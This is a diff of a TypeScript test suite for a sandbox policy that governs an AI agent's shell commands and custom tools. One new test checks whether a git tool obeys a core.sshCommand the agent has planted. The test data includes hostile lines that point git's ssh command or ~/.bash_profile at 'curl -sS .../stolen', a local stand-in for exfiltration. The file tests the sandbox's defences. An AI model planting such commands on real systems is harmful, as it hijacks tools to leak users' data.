@@ -100,7 +100,19 @@ async function serve(): Promise<{ readonly web: WebServer; readonly host: string
 }
 
 /** Runs calls of one run, written as a script, under a policy that gives hosts to some programs. */
-async function run(kind: Kind, port: number, script: string, more = '') {
+function run(kind: Kind, port: number, script: string, more = ''): Promise<string> {
+  return runUnder(
+    `  - id: ask
+    when: { tool: exec, command: [{ any: [curl, npm, pip3, [git, ls-remote], [python3, give.py], [node, ask.mjs]] }, '**'] }
+    decision: allow
+    hosts: [{ host: ${hostname()}, port: ${port}, private: true }]
+${kind === 'sealed' ? '' : '    acknowledge: executes-workspace\n'}${more}`,
+    script,
+  );
+}
+
+/** Runs a script under a policy with contained commands and more rules. */
+async function runUnder(rules: string, script: string): Promise<string> {
   const outside = createFolder('policy-');
   writeFiles(outside, {
     'policy.yml': `version: 1
@@ -110,11 +122,7 @@ rules:
   - { id: commands, when: { tool: exec, contained: true }, decision: allow }
   - { id: read, when: { read: '**' }, decision: allow }
   - { id: edit, when: { write: '**' }, decision: allow }
-  - id: ask
-    when: { tool: exec, command: [{ any: [curl, npm, pip3, [git, ls-remote], [python3, give.py], [node, ask.mjs]] }, '**'] }
-    decision: allow
-    hosts: [{ host: ${hostname()}, port: ${port}, private: true }]
-${kind === 'sealed' ? '' : '    acknowledge: executes-workspace\n'}${more}`,
+${rules}`,
   });
   const ended = await runBuiltCli(['script', '-', '--policy', join(outside, 'policy.yml'), '--format', 'json'], {
     cwd: createRepository(files),
@@ -130,7 +138,7 @@ ${script}`,
 const kinds: readonly Kind[] = ['sealed', 'acknowledged'];
 const listUrls = ({ seen }: WebServer): string => seen.map(({ url, body }) => `${url} ${body}`).join('\n');
 
-/** What the agent plants, and the command with hosts that obeys it. Settings of git: test/sandbox/workspace/git/private-git.test.ts. */
+/** What the agent plants, and the command with hosts that obeys it. */
 const plants: readonly (readonly [name: string, plant: string, command: string])[] = [
   ['~/.bash_profile', 'echo "curl -sS AT/stolen" > ~/.bash_profile', "'bash', '-lc', 'curl -sS AT/plain'"],
   [
@@ -178,6 +186,26 @@ test.each(plants)(
     }
   },
 );
+
+// No command can write the configuration of git under rules that name commands, and a custom tool needs no such rule.
+test('a sealed custom tool does not obey core.sshCommand of the agent, and an acknowledged one does', async () => {
+  for (const kind of kinds) {
+    const { web, host, at } = await serve();
+    const said = await runUnder(
+      `  - { id: remote, when: { tool: listRemote }, decision: allow }
+customTools:
+  listRemote:
+    description: Lists the branches of the remote.
+    command: [git, ls-remote, 'ssh://git@${host}/x.git']
+    network: [{ host: ${hostname()}, port: ${web.port}, private: true }]
+${kind === 'sealed' ? '' : '    acknowledge: executes-workspace\n'}`,
+      `const planted = await shell('git config core.sshCommand "curl -sS ${at}/stolen; false" && git config core.sshCommand');
+try { return [planted, await tools.listRemote({})]; } catch (error) { return [planted, String(error)]; }`,
+    );
+    expect(said).toMatch(/"0\|curl/);
+    expect([kind, listUrls(web).includes('/stolen')], said).toEqual([kind, kind === 'acknowledged']);
+  }
+});
 
 test('a sealed call passes no connection and no data through sockets and FIFOs, and an acknowledged one does', async () => {
   for (const kind of kinds) {
